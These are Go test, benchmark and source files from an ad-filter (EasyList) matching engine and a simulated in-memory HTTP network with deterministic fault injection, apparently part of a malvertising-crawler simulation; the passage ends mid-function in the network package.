func TestIndexedMatchKeepsRuleOrder(t *testing.T) {
	// Two blocking rules in different buckets both match; the indexed path
	// must return the first-listed one, like the linear scan.
	l := mustParse(t, `
/longtoken1/*
||ads.example.com^
`)
	req := Request{URL: "http://ads.example.com/longtoken1/x", Type: TypeSubdocument}
	_, got := l.Match(req)
	_, want := l.MatchLinear(req)
	if got != want || got.Raw != "/longtoken1/*" {
		t.Fatalf("Match picked %q, linear picked %q", got.Raw, want.Raw)
	}

	// Same for exceptions: first matching exception is reported.
	l2 := mustParse(t, `
||ads.example.com^
@@/longtoken1/*
@@||ads.example.com^
`)
	blocked, exc := l2.Match(req)
	_, excLin := l2.MatchLinear(req)
	if blocked || exc != excLin || exc.Raw != "@@/longtoken1/*" {
		t.Fatalf("exception pick = %v %q, linear %q", blocked, exc.Raw, excLin.Raw)
	}
}

// diffList is a rule set exercising every supported syntax feature; the
// differential tests hold the indexed engine identical to the linear scan
// over it.
const diffList = `
||ads.example.com^
||track*.example.net^$third-party
||g.shortlabel.example^
||ad-serv.example.com^
|http://promo.
/banners/*
/banner/*/img^
/ad.js
/AdBanner.
swf|
foo*bar|
ads^*
^ad^
*/creative01/*
||media.example.org^$script,~image
/widget.$domain=shop.example|~safe.shop.example
||first.example.com^$~third-party
@@||cdn.widgetworks.com^
@@/banners/acceptable/*
@@||ads.example.com/ok/$subdocument
`

// diffCheck asserts indexed and linear verdicts agree exactly.
func diffCheck(t *testing.T, l *List, ctx *RequestCtx, req Request) {
	t.Helper()
	gotB, gotR := l.MatchCtx(ctx, req)
	wantB, wantR := l.MatchLinear(req)
	if gotB != wantB || gotR != wantR {
		t.Fatalf("divergence on %+v:\n indexed = %v %v\n linear  = %v %v",
			req, gotB, ruleRaw(gotR), wantB, ruleRaw(wantR))
	}
}

func ruleRaw(r *Rule) string {
	if r == nil {
		return "<nil>"
	}
	return r.Raw
}

// TestDifferentialStructuredURLs drives both match paths with URLs built
// from the vocabulary of the rules themselves — hosts, paths, and
// fragments chosen so a large share of requests hit, graze, or narrowly
// miss rules — across resource types and document hosts.
func TestDifferentialStructuredURLs(t *testing.T) {
	l := mustParse(t, diffList)
	rng := rand.New(rand.NewSource(42))

	hosts := []string{
		"ads.example.com", "sub.ads.example.com", "notads.example.com",
		"tracker01.example.net", "track.example.net", "rack.example.net",
		"g.shortlabel.example", "ad-serv.example.com", "adserv.example.com",
		"promo.example.org", "media.example.org", "first.example.com",
		"cdn.widgetworks.com", "www.streamflicks.com", "x.com", "q.co.uk",
	}
	paths := []string{
		"/", "/banners/728x90", "/banners/acceptable/1", "/banner/a/b/img",
		"/banner/img", "/ad.js", "/ads", "/ads/", "/AdBanner.gif",
		"/movie.swf", "/movie.swf?x=1", "/fooXbar", "/foo/deep/bar",
		"/creative01/x", "/widget.js", "/ok/frame", "/article/2014/01/x",
		"/x/ad/y", "/x/ad_iframe/y", "/path$with$dollars",
	}
	docHosts := []string{"", "www.news.net", "www.example.com", "shop.example",
		"safe.shop.example", "www.shop.example", "example.com"}
	types := []ResourceType{TypeOther, TypeDocument, TypeSubdocument, TypeScript, TypeImage}

	ctx := NewRequestCtx()
	for i := 0; i < 20000; i++ {
		scheme := "http://"
		if rng.Intn(4) == 0 {
			scheme = "https://"
		}
		u := scheme + hosts[rng.Intn(len(hosts))] + paths[rng.Intn(len(paths))]
		switch rng.Intn(6) {
		case 0:
			u = strings.ToUpper(u)
		case 1:
			u += "?imp=" + fmt.Sprint(rng.Intn(1000)) + "&hop=0"
		case 2:
			u += "#frag"
		}
		req := Request{
			URL:     u,
			Type:    types[rng.Intn(len(types))],
			DocHost: docHosts[rng.Intn(len(docHosts))],
		}
		diffCheck(t, l, ctx, req)
	}
}

// TestDifferentialRandomBytes feeds both match paths arbitrary byte soup:
// whatever the URL looks like, verdicts must agree.
func TestDifferentialRandomBytes(t *testing.T) {
	l := mustParse(t, diffList)
	ctx := NewRequestCtx()
	f := func(raw []byte, ty uint8, doc uint8) bool {
		req := Request{
			URL:  string(raw),
			Type: ResourceType(ty % 5),
		}
		if doc%3 == 0 {
			req.DocHost = "shop.example"
		}
		gotB, gotR := l.MatchCtx(ctx, req)
		wantB, wantR := l.MatchLinear(req)
		return gotB == wantB && gotR == wantR
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 3000}); err != nil {
		t.Fatal(err)
	}
}

// TestDifferentialSyntheticSeedList mirrors the seed study's generated
// list shape (one host rule per network, generic creative patterns, a
// widget exception) at realistic scale and verifies the two paths agree
// over ad-serving and content URLs alike.
func TestDifferentialSyntheticSeedList(t *testing.T) {
	var b strings.Builder
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&b, "||adserv.network%03d.com^\n", i)
	}
	b.WriteString("/banners/*\n/ad.js\n@@||cdn.widgetworks.com^\n")
	l := mustParse(t, b.String())

	ctx := NewRequestCtx()
	rng := rand.New(rand.NewSource(7))
	for i := 0; i < 5000; i++ {
		var u string
		switch rng.Intn(4) {
		case 0:
			u = fmt.Sprintf("http://adserv.network%03d.com/serve?pub=www.site.com&slot=%d&imp=i%d&hop=0",
				rng.Intn(210), rng.Intn(8), i) // includes hosts past the rule set
		case 1:
			u = fmt.Sprintf("http://www.site%04d.com/article/%d", rng.Intn(2000), i)
		case 2:
			u = fmt.Sprintf("http://cdn.widgetworks.com/embed?site=s%d", i)
		default:
			u = fmt.Sprintf("http://static.site%04d.com/banners/%dx%d.png", rng.Intn(2000), 300, 250)
		}
		diffCheck(t, l, ctx, Request{URL: u, Type: TypeSubdocument, DocHost: "www.site.com"})
	}
}
