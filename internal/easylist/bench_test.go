package easylist

import (
	"fmt"
	"strings"
	"testing"
)

// benchList approximates the synthetic EasyList: 60 host-anchored network
// rules plus generic patterns and an exception.
var benchList = func() *List {
	var b strings.Builder
	for i := 0; i < 60; i++ {
		fmt.Fprintf(&b, "||adserv.network%02d.com^\n", i)
	}
	b.WriteString("/banners/*\n/ad.js\n@@||cdn.widgetworks.com^\n")
	l, err := ParseString(b.String())
	if err != nil {
		panic(err)
	}
	return l
}()

func BenchmarkMatchAdURL(b *testing.B) {
	req := Request{
		URL:     "http://adserv.network42.com/serve?pub=www.site.com&slot=1&imp=abc&hop=0",
		Type:    TypeSubdocument,
		DocHost: "www.site.com",
	}
	for i := 0; i < b.N; i++ {
		if ok, _ := benchList.Match(req); !ok {
			b.Fatal("should match")
		}
	}
}

func BenchmarkMatchContentURL(b *testing.B) {
	// The common case: a non-ad URL that must be checked against every rule.
	req := Request{
		URL:     "http://www.streamflicks.com/article/2014/01/long-path-segment",
		Type:    TypeSubdocument,
		DocHost: "www.streamflicks.com",
	}
	for i := 0; i < b.N; i++ {
		if ok, _ := benchList.Match(req); ok {
			b.Fatal("should not match")
		}
	}
}

func BenchmarkParseList(b *testing.B) {
	var sb strings.Builder
	for i := 0; i < 200; i++ {
		fmt.Fprintf(&sb, "||host%03d.example.com^$third-party\n", i)
	}
	src := sb.String()
	b.SetBytes(int64(len(src)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := ParseString(src); err != nil {
			b.Fatal(err)
		}
	}
}
