package easylist

import (
	"fmt"
	"strings"
	"testing"
)

// benchList is a realistic ~1k-rule list: 900 host-anchored network rules,
// 80 generic creative-path rules (a quarter with options), a handful of
// tokenless patterns that land in the fallback bucket, and exceptions —
// the shape of a real EasyList at a scale where the O(rules) linear scan
// visibly hurts and the token index has to earn its keep.
var benchList = func() *List {
	l, err := ParseString(benchRules())
	if err != nil {
		panic(err)
	}
	return l
}()

func benchRules() string {
	var b strings.Builder
	for i := 0; i < 900; i++ {
		switch i % 3 {
		case 0:
			fmt.Fprintf(&b, "||adserv.network%03d.com^\n", i)
		case 1:
			fmt.Fprintf(&b, "||media%03d.adexchange.net^$third-party\n", i)
		default:
			fmt.Fprintf(&b, "||track%03d.example.org^$script,subdocument\n", i)
		}
	}
	for i := 0; i < 80; i++ {
		switch i % 4 {
		case 0:
			fmt.Fprintf(&b, "/creative%02d/banners/*\n", i)
		case 1:
			fmt.Fprintf(&b, "/pixel%02d.gif|\n", i)
		case 2:
			fmt.Fprintf(&b, "|http://promo%02d.\n", i)
		default:
			fmt.Fprintf(&b, "/sponsor%02d/*/img^$image\n", i)
		}
	}
	// Tokenless rules: always scanned, like real short generic filters.
	b.WriteString("/banners/*\n/ad.js\nswf|\n")
	b.WriteString("@@||cdn.widgetworks.com^\n@@/banners/acceptable/*\n")
	return b.String()
}

var benchAdReq = Request{
	URL:     "http://adserv.network423.com/serve?pub=www.site.com&slot=1&imp=abc&hop=0",
	Type:    TypeSubdocument,
	DocHost: "www.site.com",
}

// The common case: a non-ad URL that used to be checked against every rule.
var benchContentReq = Request{
	URL:     "http://www.streamflicks.com/article/2014/01/long-path-segment",
	Type:    TypeSubdocument,
	DocHost: "www.streamflicks.com",
}

func BenchmarkMatchAdURL(b *testing.B) {
	ctx := NewRequestCtx()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if ok, _ := benchList.MatchCtx(ctx, benchAdReq); !ok {
			b.Fatal("should match")
		}
	}
}

func BenchmarkMatchAdURLLinear(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if ok, _ := benchList.MatchLinear(benchAdReq); !ok {
			b.Fatal("should match")
		}
	}
}

func BenchmarkMatchContentURL(b *testing.B) {
	ctx := NewRequestCtx()
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if ok, _ := benchList.MatchCtx(ctx, benchContentReq); ok {
			b.Fatal("should not match")
		}
	}
}

func BenchmarkMatchContentURLLinear(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if ok, _ := benchList.MatchLinear(benchContentReq); ok {
			b.Fatal("should not match")
		}
	}
}

// BenchmarkMatchContentURLFreshCtx measures the convenience Match path
// (per-call context) so the cost of not reusing a RequestCtx is visible.
func BenchmarkMatchContentURLFreshCtx(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if ok, _ := benchList.Match(benchContentReq); ok {
			b.Fatal("should not match")
		}
	}
}

// BenchmarkMatchSeparatorFirstRule exercises the separator-jump prune:
// a '^'-first pattern against a long URL it never matches.
func BenchmarkMatchSeparatorFirstRule(b *testing.B) {
	r, err := ParseRule("^advert^")
	if err != nil {
		b.Fatal(err)
	}
	req := Request{URL: "http://www.streamflicks.com/article/2014/01/long-path-segment-with-many-words", Type: TypeOther}
	for i := 0; i < b.N; i++ {
		if r.Matches(req) {
			b.Fatal("should not match")
		}
	}
}

func BenchmarkParseList(b *testing.B) {
	src := benchRules()
	b.SetBytes(int64(len(src)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := ParseString(src); err != nil {
			b.Fatal(err)
		}
	}
}
