package easylist

// Differential fuzz target for the filter-matching engine (DESIGN.md §12):
// the token-indexed Match must return exactly the decision of the
// first-match linear reference scan, for any rule the parser accepts and any
// request. This extends the fixed-corpus agreement test in
// easylist_diff_test.go with coverage the corpus can't reach.

import (
	"testing"

	"madave/internal/fuzzutil"
)

var ruleSeeds = []string{
	"||ads.example.com^",
	"|http://track.",
	"/banner/*/img^",
	"@@||good.example^$script,domain=pub.example",
	"*ad*",
	"ad$~third-party",
	"swf|",
	"^x^",
	"||cdn.example.com/path$image,domain=~bad.example",
	"-advert-",
}

func FuzzMatch(f *testing.F) {
	urls := fuzzutil.URLs(0x60, len(ruleSeeds))
	for i, rule := range ruleSeeds {
		f.Add(rule, urls[i], "pub.example.com", byte(i))
	}
	f.Add("||ads.example.com^", "http://ADS.EXAMPLE.COM/slot", "ads.example.com", byte(TypeSubdocument))
	f.Add("ad", "", "", byte(0))
	f.Fuzz(func(t *testing.T, ruleText, rawURL, docHost string, rtype byte) {
		if len(ruleText) > 512 || len(rawURL) > 4096 || len(docHost) > 256 {
			t.Skip("oversized input")
		}
		list, err := ParseString(ruleText)
		if err != nil || list == nil || list.Len() == 0 {
			// Comment, unsupported syntax, or skipped rule: nothing to test.
			t.Skip("rule not parsed")
		}
		req := Request{
			URL:     rawURL,
			Type:    ResourceType(int(rtype) % int(TypeImage+1)),
			DocHost: docHost,
		}
		checkAgainstLinear(t, list, req)
	})
}

func checkAgainstLinear(t *testing.T, list *List, req Request) {
	t.Helper()
	gotB, gotR := list.Match(req)
	wantB, wantR := list.MatchLinear(req)
	if gotB != wantB {
		t.Fatalf("Match(%+v) = %v, MatchLinear = %v", req, gotB, wantB)
	}
	if (gotR == nil) != (wantR == nil) || (gotR != nil && gotR.Raw != wantR.Raw) {
		t.Fatalf("Match(%+v) rule = %v, MatchLinear rule = %v", req, ruleRaw(gotR), ruleRaw(wantR))
	}
}
