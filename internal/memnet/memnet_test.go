package memnet

import (
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
)

func newTestUniverse() *Universe {
	u := NewUniverse()
	u.HandleFunc("www.pub.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<html>page %s on %s</html>", r.URL.Path, r.Host)
	})
	u.HandleFunc("redirect.example.com", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://www.pub.example.com/landed", http.StatusFound)
	})
	u.HandleFunc("error.example.com", func(w http.ResponseWriter, r *http.Request) {
		http.Error(w, "nope", http.StatusForbidden)
	})
	return u
}

func TestInMemoryTransport(t *testing.T) {
	u := newTestUniverse()
	client := Client(u)

	resp, err := client.Get("http://www.pub.example.com/index")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
	body, _ := io.ReadAll(resp.Body)
	if !strings.Contains(string(body), "page /index on www.pub.example.com") {
		t.Fatalf("body = %q", body)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/html" {
		t.Fatalf("content type = %q", ct)
	}
}

func TestRedirectNotFollowed(t *testing.T) {
	u := newTestUniverse()
	client := Client(u)
	resp, err := client.Get("http://redirect.example.com/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusFound {
		t.Fatalf("status = %d, want 302 (redirects must be observable)", resp.StatusCode)
	}
	if loc := resp.Header.Get("Location"); loc != "http://www.pub.example.com/landed" {
		t.Fatalf("location = %q", loc)
	}
}

func TestNXDomain(t *testing.T) {
	u := newTestUniverse()
	client := Client(u)
	_, err := client.Get("http://no-such-host.example.net/")
	if err == nil {
		t.Fatal("expected NXDOMAIN error")
	}
	if !strings.Contains(err.Error(), "no such host") {
		t.Fatalf("err = %v", err)
	}
}

func TestFallbackHandler(t *testing.T) {
	u := newTestUniverse()
	u.SetFallback(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
		io.WriteString(w, "parked")
	}))
	client := Client(u)
	resp, err := client.Get("http://anything.example.org/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "parked" {
		t.Fatalf("body = %q", body)
	}
}

func TestErrorStatus(t *testing.T) {
	u := newTestUniverse()
	client := Client(u)
	resp, err := client.Get("http://error.example.com/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("status = %d", resp.StatusCode)
	}
}

func TestHostCaseInsensitive(t *testing.T) {
	u := newTestUniverse()
	client := Client(u)
	resp, err := client.Get("http://WWW.PUB.EXAMPLE.COM/x")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("status = %d", resp.StatusCode)
	}
}

func TestHandleReplace(t *testing.T) {
	u := NewUniverse()
	u.HandleFunc("h.example.com", func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "one")
	})
	u.HandleFunc("h.example.com", func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "two")
	})
	resp, err := Client(u).Get("http://h.example.com/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "two" {
		t.Fatalf("body = %q", body)
	}
}

func TestHostsListing(t *testing.T) {
	u := newTestUniverse()
	hosts := u.Hosts()
	if len(hosts) != 3 {
		t.Fatalf("hosts = %v", hosts)
	}
}

func TestQueryAndHeaders(t *testing.T) {
	u := NewUniverse()
	u.HandleFunc("echo.example.com", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "q=%s ref=%s", r.URL.Query().Get("q"), r.Header.Get("Referer"))
	})
	req, _ := http.NewRequest("GET", "http://echo.example.com/search?q=ads", nil)
	req.Header.Set("Referer", "http://www.pub.example.com/")
	resp, err := Client(u).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if string(body) != "q=ads ref=http://www.pub.example.com/" {
		t.Fatalf("body = %q", body)
	}
}

func TestRealTCPServer(t *testing.T) {
	u := newTestUniverse()
	srv, err := StartServer(u)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	client := srv.TCPClient()
	resp, err := client.Get("http://www.pub.example.com/over-tcp")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	if !strings.Contains(string(body), "page /over-tcp on www.pub.example.com") {
		t.Fatalf("body = %q", body)
	}

	// Unknown host over TCP yields 502, not a transport error.
	resp2, err := client.Get("http://ghost.example.net/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp2.Body.Close()
	if resp2.StatusCode != http.StatusBadGateway {
		t.Fatalf("status = %d, want 502", resp2.StatusCode)
	}
}

func TestTCPRedirectObservable(t *testing.T) {
	u := newTestUniverse()
	srv, err := StartServer(u)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	resp, err := srv.TCPClient().Get("http://redirect.example.com/")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusFound {
		t.Fatalf("status = %d", resp.StatusCode)
	}
}

func TestConcurrentRequests(t *testing.T) {
	u := newTestUniverse()
	client := Client(u)
	done := make(chan error, 32)
	for i := 0; i < 32; i++ {
		go func(n int) {
			resp, err := client.Get(fmt.Sprintf("http://www.pub.example.com/p%d", n))
			if err == nil {
				io.Copy(io.Discard, resp.Body)
				resp.Body.Close()
			}
			done <- err
		}(i)
	}
	for i := 0; i < 32; i++ {
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
}

func TestStripPort(t *testing.T) {
	u := newTestUniverse()
	if u.Lookup("www.pub.example.com:8080") == nil {
		t.Fatal("port should be stripped in lookup")
	}
}
