package memnet

// This file is memnet's deterministic fault-injection layer. The paper's
// crawler spent three months talking to the real, hostile web — slow ad
// servers, NXDOMAIN flaps, 5xx bursts, truncated responses, stalled reads —
// and the pipeline's resilience only means something if those conditions
// are reproducible in tests. Chaos wraps any RoundTripper (normally
// Transport) and injects faults as a pure function of (seed, URL, attempt),
// so a crawl under chaos is exactly as repeatable as a crawl without it:
// the same seed yields the same faults, the same retries, and the same
// statistics, regardless of worker scheduling or wall-clock speed.

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"madave/internal/stats"
)

// attemptKey carries the retry attempt number through a request context so
// fault decisions can differ per attempt (an NXDOMAIN *flap* resolves on
// retry; a dead host stays dead) while remaining deterministic.
type attemptKey struct{}

// WithAttempt returns a context tagging the request as the n-th attempt
// (1-based) of a logical fetch. The resilient retry layer sets it; Chaos
// reads it.
func WithAttempt(ctx context.Context, n int) context.Context {
	return context.WithValue(ctx, attemptKey{}, n)
}

// AttemptFrom extracts the attempt number from a context (1 when unset).
func AttemptFrom(ctx context.Context) int {
	if n, ok := ctx.Value(attemptKey{}).(int); ok && n > 0 {
		return n
	}
	return 1
}

// ResetError models a TCP connection reset by the remote host.
type ResetError struct{ Host string }

func (e *ResetError) Error() string {
	return fmt.Sprintf("memnet: read %s: connection reset by peer", e.Host)
}

// FaultProfile describes the fault mix injected for a host. Every rate is a
// probability in [0, 1]; the five fault kinds are mutually exclusive per
// attempt (a single deterministic draw selects at most one), while latency
// is independent and may accompany any outcome.
type FaultProfile struct {
	// LatencyRate is the probability of injected latency; the duration is
	// drawn uniformly from [LatencyMin, LatencyMax]. Latency must be kept
	// far below any per-attempt timeout or it stops being an annoyance and
	// becomes a (nondeterministic) failure.
	LatencyRate float64
	LatencyMin  time.Duration
	LatencyMax  time.Duration

	// NXRate injects an NXDomainError — a DNS flap when transient, a dead
	// host when the per-host profile pins it to 1.
	NXRate float64
	// ResetRate injects a ResetError before any response is produced.
	ResetRate float64
	// HTTP5xxRate short-circuits the handler with a synthesized 503.
	HTTP5xxRate float64
	// TruncateRate serves the real response but cuts the body in half; the
	// read ends with io.ErrUnexpectedEOF.
	TruncateRate float64
	// StallRate serves half the body and then blocks the read until the
	// request's context is done. Requests without a deadline will block
	// indefinitely, so stalls require deadline plumbing end to end.
	StallRate float64
}

// FaultRate returns the total probability that an attempt is faulted
// (excluding pure latency).
func (p FaultProfile) FaultRate() float64 {
	return p.NXRate + p.ResetRate + p.HTTP5xxRate + p.TruncateRate + p.StallRate
}

// UniformProfile spreads a total fault rate across all five kinds in fixed
// proportions (NX 20%, reset 25%, 5xx 25%, truncate 20%, stall 10%), with
// sub-millisecond latency on 30% of requests. It is the standard profile of
// the chaos soak.
func UniformProfile(rate float64) FaultProfile {
	if rate < 0 {
		rate = 0
	}
	if rate > 1 {
		rate = 1
	}
	return FaultProfile{
		LatencyRate:  0.30,
		LatencyMin:   100 * time.Microsecond,
		LatencyMax:   time.Millisecond,
		NXRate:       0.20 * rate,
		ResetRate:    0.25 * rate,
		HTTP5xxRate:  0.25 * rate,
		TruncateRate: 0.20 * rate,
		StallRate:    0.10 * rate,
	}
}

// FaultCounts is a snapshot of how many faults a Chaos instance injected,
// by kind. Counts are totals since construction.
type FaultCounts struct {
	Latency   int64
	NXDomain  int64
	Reset     int64
	HTTP5xx   int64
	Truncated int64
	Stalled   int64
}

// Total returns the number of injected faults excluding pure latency.
func (f FaultCounts) Total() int64 {
	return f.NXDomain + f.Reset + f.HTTP5xx + f.Truncated + f.Stalled
}

// Chaos wraps a RoundTripper with deterministic fault injection. The zero
// profile injects nothing, so a Chaos with only per-host profiles acts as a
// targeted saboteur.
type Chaos struct {
	// Next is the wrapped transport (normally a *Transport).
	Next http.RoundTripper
	// Seed namespaces the fault stream; two Chaos layers with different
	// seeds fault different requests.
	Seed uint64
	// Default is the profile applied to hosts without an override.
	Default FaultProfile

	mu      sync.RWMutex
	perHost map[string]FaultProfile

	cLatency   atomic.Int64
	cNXDomain  atomic.Int64
	cReset     atomic.Int64
	cHTTP5xx   atomic.Int64
	cTruncated atomic.Int64
	cStalled   atomic.Int64
}

// NewChaos wraps next with the given seed and default profile.
func NewChaos(next http.RoundTripper, seed uint64, profile FaultProfile) *Chaos {
	return &Chaos{Next: next, Seed: seed, Default: profile}
}

// SetHostProfile overrides the fault profile for one host (exact match, no
// port) — e.g. a permanently dead ad exchange (NXRate 1) or a flaky CDN.
func (c *Chaos) SetHostProfile(host string, p FaultProfile) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.perHost == nil {
		c.perHost = make(map[string]FaultProfile)
	}
	c.perHost[strings.ToLower(host)] = p
}

// profileFor returns the effective profile for a host.
func (c *Chaos) profileFor(host string) FaultProfile {
	c.mu.RLock()
	defer c.mu.RUnlock()
	if p, ok := c.perHost[strings.ToLower(host)]; ok {
		return p
	}
	return c.Default
}

// Counts returns a snapshot of the injected-fault totals.
func (c *Chaos) Counts() FaultCounts {
	return FaultCounts{
		Latency:   c.cLatency.Load(),
		NXDomain:  c.cNXDomain.Load(),
		Reset:     c.cReset.Load(),
		HTTP5xx:   c.cHTTP5xx.Load(),
		Truncated: c.cTruncated.Load(),
		Stalled:   c.cStalled.Load(),
	}
}

// RoundTrip injects at most one fault, then (if the fault allows) delegates
// to the wrapped transport. The fault decision depends only on (seed, URL,
// attempt), never on time or goroutine interleaving.
func (c *Chaos) RoundTrip(req *http.Request) (*http.Response, error) {
	ctx := req.Context()
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	host := req.URL.Hostname()
	if host == "" {
		host = stripPort(req.Host)
	}
	prof := c.profileFor(host)
	rng := stats.NewRNGFromString(fmt.Sprintf("chaos|%d|%s|%d", c.Seed, req.URL.String(), AttemptFrom(ctx)))

	// Injected latency (independent of the fault draw).
	if p := prof.LatencyRate; p > 0 && rng.Bool(p) {
		d := prof.LatencyMin
		if prof.LatencyMax > prof.LatencyMin {
			d += time.Duration(rng.Float64() * float64(prof.LatencyMax-prof.LatencyMin))
		}
		c.cLatency.Add(1)
		t := time.NewTimer(d)
		select {
		case <-t.C:
		case <-ctx.Done():
			t.Stop()
			return nil, ctx.Err()
		}
	}

	// Single draw selects at most one fault kind.
	u := rng.Float64()
	switch {
	case u < prof.NXRate:
		c.cNXDomain.Add(1)
		return nil, &NXDomainError{Host: host}
	case u < prof.NXRate+prof.ResetRate:
		c.cReset.Add(1)
		return nil, &ResetError{Host: host}
	case u < prof.NXRate+prof.ResetRate+prof.HTTP5xxRate:
		c.cHTTP5xx.Add(1)
		return synth503(req), nil
	case u < prof.NXRate+prof.ResetRate+prof.HTTP5xxRate+prof.TruncateRate:
		resp, err := c.Next.RoundTrip(req)
		if err != nil {
			return nil, err
		}
		c.cTruncated.Add(1)
		return truncateResponse(resp), nil
	case u < prof.FaultRate():
		resp, err := c.Next.RoundTrip(req)
		if err != nil {
			return nil, err
		}
		c.cStalled.Add(1)
		return stallResponse(resp, ctx), nil
	}
	return c.Next.RoundTrip(req)
}

// synth503 fabricates the 503 an overloaded ad server would return.
func synth503(req *http.Request) *http.Response {
	body := "chaos: injected 503 service unavailable"
	h := make(http.Header)
	h.Set("Content-Type", "text/plain")
	h.Set("Retry-After", "1")
	return &http.Response{
		Status:        "503 Service Unavailable",
		StatusCode:    http.StatusServiceUnavailable,
		Proto:         "HTTP/1.1",
		ProtoMajor:    1,
		ProtoMinor:    1,
		Header:        h,
		Body:          io.NopCloser(strings.NewReader(body)),
		ContentLength: int64(len(body)),
		Request:       req,
	}
}

// truncateResponse cuts the body in half; reading past the cut yields
// io.ErrUnexpectedEOF, like a connection dropped mid-transfer.
func truncateResponse(resp *http.Response) *http.Response {
	full, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	cut := len(full) / 2
	resp.Body = &truncatedBody{r: bytes.NewReader(full[:cut])}
	// ContentLength still advertises the full size — exactly the mismatch a
	// real truncation presents.
	resp.ContentLength = int64(len(full))
	return resp
}

type truncatedBody struct{ r *bytes.Reader }

func (b *truncatedBody) Read(p []byte) (int, error) {
	n, err := b.r.Read(p)
	if err == io.EOF {
		err = io.ErrUnexpectedEOF
	}
	return n, err
}

func (b *truncatedBody) Close() error { return nil }

// stallResponse serves half the body, then blocks every further read until
// the request context is done — a stalled TCP stream. The caller's deadline
// is what un-sticks it.
func stallResponse(resp *http.Response, ctx context.Context) *http.Response {
	full, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	cut := len(full) / 2
	resp.Body = &stalledBody{r: bytes.NewReader(full[:cut]), ctx: ctx}
	return resp
}

type stalledBody struct {
	r   *bytes.Reader
	ctx context.Context
}

func (b *stalledBody) Read(p []byte) (int, error) {
	if b.r.Len() > 0 {
		return b.r.Read(p)
	}
	<-b.ctx.Done()
	return 0, b.ctx.Err()
}

func (b *stalledBody) Close() error { return nil }
