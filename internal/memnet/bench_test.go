package memnet

import (
	"io"
	"net/http"
	"testing"
)

func benchUniverse() *Universe {
	u := NewUniverse()
	u.HandleFunc("bench.example.com", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, "<html><body>bench page</body></html>")
	})
	return u
}

func BenchmarkInMemoryRoundTrip(b *testing.B) {
	client := Client(benchUniverse())
	for i := 0; i < b.N; i++ {
		resp, err := client.Get("http://bench.example.com/")
		if err != nil {
			b.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
}

func BenchmarkTCPRoundTrip(b *testing.B) {
	srv, err := StartServer(benchUniverse())
	if err != nil {
		b.Fatal(err)
	}
	defer srv.Close()
	client := srv.TCPClient()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		resp, err := client.Get("http://bench.example.com/")
		if err != nil {
			b.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
}
