// Package memnet provides the network substrate of the simulation: a
// virtual-host HTTP universe in which every simulated domain (publishers,
// ad networks, exploit servers) registers an http.Handler, plus two ways to
// reach it:
//
//   - Transport: an http.RoundTripper that dispatches requests in memory.
//     This is the default for crawls — deterministic and allocation-cheap.
//   - Server: a real net/http server on a loopback TCP listener with a
//     name-resolving client transport, so the same universe can be exercised
//     over actual sockets (integration tests and the cmd tools use it).
//
// Both paths run the same handler code, mirroring how the paper's crawler
// spoke real HTTP to real ad infrastructure.
package memnet

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"strings"
	"sync"
	"time"

	"madave/internal/telemetry"
)

// Universe is the registry of simulated hosts. It implements http.Handler
// by dispatching on the request's Host header, so it can be served directly
// by net/http.
type Universe struct {
	mu       sync.RWMutex
	hosts    map[string]http.Handler
	fallback http.Handler
}

// NewUniverse returns an empty universe. Unknown hosts respond like a DNS
// failure: the in-memory transport returns an error ("no such host"), and
// the TCP server responds 502.
func NewUniverse() *Universe {
	return &Universe{hosts: make(map[string]http.Handler)}
}

// Handle registers a handler for an exact host name (no port). Registering
// the same host twice replaces the handler.
func (u *Universe) Handle(host string, h http.Handler) {
